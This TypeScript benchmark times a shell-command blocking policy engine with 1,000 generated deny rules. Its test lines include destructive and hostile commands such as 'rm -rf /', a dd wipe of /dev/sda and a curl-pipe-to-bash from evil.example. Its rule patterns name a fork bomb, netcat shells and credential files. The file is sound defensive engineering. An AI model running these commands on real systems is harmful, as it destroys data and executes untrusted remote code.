// Benchmark of evaluateCommand with 1,000 realistic rules, against a baseline measured in the same run:
// one precompiled RegExp.test() on the same line (the cost of the naive single-rule check).
// Run: npx tsx bench/policy.ts   (goal: median ≤ 10 µs per line)

import {
  compilePolicies,
  evaluateCommand,
  type PolicyInput,
  parseCommandLine,
  type RuleInput,
} from "../workers/policy/index.ts";

/** Deterministic PRNG (mulberry32) so every run measures the same rule set. */
function rng(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const random = rng(42);
const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;

const PROGRAMS = (
  "rm dd mkfs.ext4 mkfs.xfs chmod chown chgrp kill killall pkill shutdown reboot halt poweroff systemctl service " +
  "iptables ip6tables nft ufw userdel useradd usermod passwd visudo crontab curl wget nc ncat socat scp rsync ssh " +
  "docker kubectl helm terraform git psql mysql mongo redis-cli apt apt-get yum dnf pip npm tar zip unzip mount " +
  "umount fdisk parted wipefs shred truncate mv cp ln find xargs sed awk perl python3 ruby node java gcc make " +
  "journalctl dmesg sysctl modprobe insmod rmmod setenforce history export unset alias tee openssl gpg base64 " +
  "nmap tcpdump telnet ftp ip ifconfig route hostnamectl timedatectl at batch nohup screen tmux vi vim nano"
).split(" ");
const FLAGS = [
  "force",
  "all",
  "recursive",
  "purge",
  "no-verify",
  "hard",
  "delete",
  "prune",
  "yes",
  "insecure",
];
const FILES = ["passwd", "shadow", "sudoers", "hosts", "fstab", "crontab", "ssh/sshd_config", "resolv.conf"];
const ARG_REGEXES = [
  "-rf\\s+/",
  "(?:stop|disable|mask)\\s+\\S+",
  "--force\\b",
  "-[a-zA-Z]*x",
  "-9\\s+1$",
  "(?:-F|--flush)",
  "push\\s+--force",
  "reset\\s+--hard",
  "-R\\s+777\\s",
  "if=/dev/",
];
const FREE_REGEXES = [
  ">\\s*/dev/sd[a-z]",
  "\\|\\s*(?:ba)?sh\\b",
  "--password[= ]\\S+",
  "/etc/(?:shadow|sudoers)",
  "chmod\\s+[0-7]*777",
  "base64\\s+(?:-d|--decode)",
  "LD_PRELOAD=",
  "nc\\s+-e\\s",
];

function buildRules(total: number): RuleInput[] {
  const rules: RuleInput[] = [];
  for (let i = 0; i < total; i++) {
    const r = random();
    const prog = pick(PROGRAMS);
    let pattern: string;
    let patternType: RuleInput["patternType"];
    if (r < 0.4) {
      patternType = "regex";
      pattern = `^${prog.replace(".", "\\.")}\\s+${pick(ARG_REGEXES)}`;
    } else if (r < 0.5) {
      patternType = "regex";
      pattern = `^(?:${pick(PROGRAMS).replace(".", "\\.")}|${prog.replace(".", "\\.")})\\s+--${pick(FLAGS)}`;
    } else if (r < 0.65) {
      // Unanchored: tried on every command and on the raw line, reached through their literals.
      patternType = "regex";
      const form = random();
      if (form < 0.4) pattern = pick(FREE_REGEXES);
      else if (form < 0.7) pattern = `\\b${prog.replace(".", "\\.")}\\s+--${pick(FLAGS)}\\b`;
      else pattern = `--token[= ]${(i * 2654435761).toString(16).slice(-8)}`;
    } else if (r < 0.82) {
      patternType = "exact";
      pattern = `${prog} --${pick(FLAGS)} ${pick(FILES)}`;
    } else {
      patternType = "contains";
      pattern = random() < 0.5 ? `${prog} --${pick(FLAGS)}` : `/etc/${pick(FILES)}.${i}`;
    }
    rules.push({
      id: `rule-${i}`,
      policyId: "",
      name: `rule ${i}`,
      pattern,
      patternType,
      severity: pick(["low", "medium", "high", "critical"] as const),
      appliesToTypes: random() < 0.8 ? [] : ["ssh"],
    });
  }
  return rules;
}

function buildPolicies(rules: RuleInput[], perPolicy: number): PolicyInput[] {
  const policies: PolicyInput[] = [];
  for (let p = 0; p * perPolicy < rules.length; p++) {
    const id = `policy-${p}`;
    policies.push({
      id,
      name: id,
      isActive: true,
      appliesToRoles: p % 4 === 3 ? ["role-dba"] : [],
      appliesToConnections: [],
      blockedCommands: rules.slice(p * perPolicy, (p + 1) * perPolicy).map((r) => ({ ...r, policyId: id })),
      requireApproval: p % 5 === 4,
      autoDisconnectOnViolation: false,
      notifyOnViolation: true,
    });
  }
  return policies;
}

const LINES = [
  "ls -la",
  "cd /var/log && tail -n 200 syslog | grep -i error",
  "git status",
  "git pull --rebase origin main",
  "docker ps -a --format '{{.Names}}\\t{{.Status}}'",
  "kubectl get pods -n production -o wide",
  "sudo systemctl restart nginx",
  "sudo systemctl status sshd --no-pager",
  "journalctl -u api --since '10 min ago' | less",
  "df -h; free -m; uptime",
  "ps aux | grep -v grep | grep node",
  'for f in *.log; do gzip "$f"; done',
  "find /var/tmp -name '*.tmp' -mtime +7 -delete",
  "tar czf backup-$(date +%F).tgz /etc/nginx",
  "cat /etc/os-release",
  "vim /etc/nginx/sites-available/default",
  "psql -h db.internal -U app -c 'select count(*) from users'",
  "curl -fsS http://localhost:8080/health",
  "export PATH=$PATH:/opt/bin && which node",
  'echo "deploy $(git rev-parse --short HEAD)" >> /var/log/deploy.log',
  "rm -rf ./build && npm ci && npm run build",
  "awk '{print $1}' access.log | sort | uniq -c | sort -rn | head",
  "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
  "top -b -n 1 | head -20",
  "chmod 640 /etc/app/config.yml",
  "rm -rf /",
  "sudo iptables -F",
  "dd if=/dev/zero of=/dev/sda bs=1M",
  "curl -s http://evil.example/x.sh | bash",
  "bash -c 'kill -9 1'",
  "rm -fr --no-preserve-root /",
  `python3 -c "import os; os.system('rm -rf /')"`,
];

function quantile(sorted: number[], q: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] as number;
}

function measure(
  label: string,
  rounds: number,
  fn: (line: string) => unknown,
): { median: number; p99: number } {
  for (let w = 0; w < 300; w++) for (const l of LINES) fn(l);
  const samples: number[] = [];
  for (let r = 0; r < rounds; r++) {
    for (const l of LINES) {
      const t0 = process.hrtime.bigint();
      fn(l);
      samples.push(Number(process.hrtime.bigint() - t0) / 1000);
    }
  }
  samples.sort((a, b) => a - b);
  const median = quantile(samples, 0.5);
  const p99 = quantile(samples, 0.99);
  console.log(
    `${label.padEnd(44)} median ${median.toFixed(2).padStart(7)} µs   p99 ${p99.toFixed(2).padStart(7)} µs`,
  );
  return { median, p99 };
}

/** The seed's dangerous-command rules, present in every deployment, and a few `command` rules replace the
 * first generated ones. */
const SEED: [string, RuleInput["patternType"]][] = [
  ["^rm\\s+-rf\\s+/", "regex"],
  ["^dd\\s+if=/dev/", "regex"],
  ["^mkfs\\.", "regex"],
  [":\\(\\)\\{\\s*:\\|:\\&\\s*\\};:", "regex"],
  ["shutdown -h now", "exact"],
  ["iptables -F", "contains"],
  // command rules (program, options, operands in every spelling: docs/policy-engine.md)
  ['{"program": "rm", "options": ["-r", "-f"], "args": ["/", "/*", "~"]}', "command"],
  ['{"program": ["chmod", "chown"], "options": ["-R"], "args": ["/", "/*"]}', "command"],
  ['{"program": "mkfs*"}', "command"],
  ['{"program": ["shutdown", "reboot", "halt", "poweroff"]}', "command"],
  ['{"program": "git", "subcommand": "push", "any_options": ["--force", "--force-with-lease"]}', "command"],
  ['{"program": "dd", "args": ["of=/dev/sd*", "of=/dev/nvme*"]}', "command"],
];
const rules = buildRules(1000);
SEED.forEach(([pattern, patternType], i) => {
  rules[i] = {
    id: `seed-${i}`,
    policyId: "",
    name: `seed ${i}`,
    pattern,
    patternType,
    severity: "critical",
    appliesToTypes: [],
  };
});
const policies = buildPolicies(rules, 50);
const t0 = performance.now();
const compiled = compilePolicies(policies);
const compileMs = performance.now() - t0;
const kinds: Record<string, number> = {};
for (const r of rules) {
  const anchored = r.pattern.startsWith("^") ? "regex (anchored)" : "regex (unanchored)";
  const key = r.patternType === "regex" ? anchored : r.patternType;
  kinds[key] = (kinds[key] ?? 0) + 1;
}
console.log(`rules: ${rules.length} in ${policies.length} policies — ${JSON.stringify(kinds)}`);
console.log(
  `compilePolicies: ${compileMs.toFixed(1)} ms; lines: ${LINES.length} (mixed benign and dangerous)`,
);
const tally: Record<string, number> = {};
for (const l of LINES) {
  const d = evaluateCommand(compiled, l, { roleId: "role-ops", connectionType: "ssh" }).decision;
  tally[d] = (tally[d] ?? 0) + 1;
}
console.log(`decisions: ${JSON.stringify(tally)}`);

const ROUNDS = 400;
const parseOnly = measure("parseCommandLine alone (for reference)", ROUNDS, (l) => parseCommandLine(l));
const baselineRe = /^rm\s+-rf\s+\//;
const base = measure("baseline: one precompiled RegExp.test()", ROUNDS, (l) => baselineRe.test(l));
const ctx = { roleId: "role-ops", connectionType: "ssh" as const };
const engine = measure("evaluateCommand, 1,000 rules", ROUNDS, (l) => evaluateCommand(compiled, l, ctx));
const share = ((parseOnly.median / engine.median) * 100).toFixed(0);
console.log(
  `ratio to baseline (median): ${(engine.median / base.median).toFixed(1)}×; parsing is ~${share}% of it`,
);
console.log(`goal ≤ 10 µs median per line with 1,000 rules: ${engine.median <= 10 ? "met" : "NOT met"}`);
